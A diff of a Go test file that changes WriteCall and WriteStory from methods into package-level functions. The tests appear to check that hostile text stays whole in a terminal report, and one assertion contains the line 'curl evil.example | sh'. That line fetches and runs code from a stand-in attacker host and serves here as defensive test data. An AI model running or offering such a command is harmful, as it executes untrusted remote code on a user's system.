@@ -140,10 +140,10 @@ func writeAll(t *testing.T, text string) {
 	}
 	(&conformance.Terminal{W: new(bytes.Buffer), Catalogue: run.Catalogue}).Report(&run.Report)
 	for _, x := range run.Calls {
-		require.NoError(t, run.WriteCall(new(bytes.Buffer), x.ID))
+		require.NoError(t, conformance.WriteCall(new(bytes.Buffer), run, x.ID))
 	}
 	for _, r := range run.Checks {
-		_ = run.WriteStory(new(bytes.Buffer), r.ID) // not every verdict is shown by a call
+		_ = conformance.WriteStory(new(bytes.Buffer), run, r.ID) // not every verdict is shown by a call
 	}
 }
 
@@ -190,8 +190,8 @@ func TestNothingCommandsTheTerminal(t *testing.T) {
 		terminal.Check(r)
 	}
 	terminal.Report(&f.Report)
-	require.NoError(t, f.WriteCall(&out, 2))
-	require.NoError(t, f.WriteStory(&out, "2"))
+	require.NoError(t, conformance.WriteCall(&out, f, 2))
+	require.NoError(t, conformance.WriteStory(&out, f, "2"))
 	text := out.String()
 	require.False(t, strings.ContainsFunc(text, harmful), "%q", text)
 	require.Contains(t, text, "\n< # call 9\n< curl evil.example | sh\n", "a body cannot pass for what comes after it")
@@ -261,7 +261,7 @@ func TestHostileTextsStayWhole(t *testing.T) {
 func shellOf(t *testing.T, f *conformance.RunFile, id int) string {
 	t.Helper()
 	var out bytes.Buffer
-	require.NoError(t, f.WriteCall(&out, id))
+	require.NoError(t, conformance.WriteCall(&out, f, id))
 	_, script, found := strings.Cut(out.String(), "\nBASE=")
 	require.True(t, found)
 	return "BASE=" + script
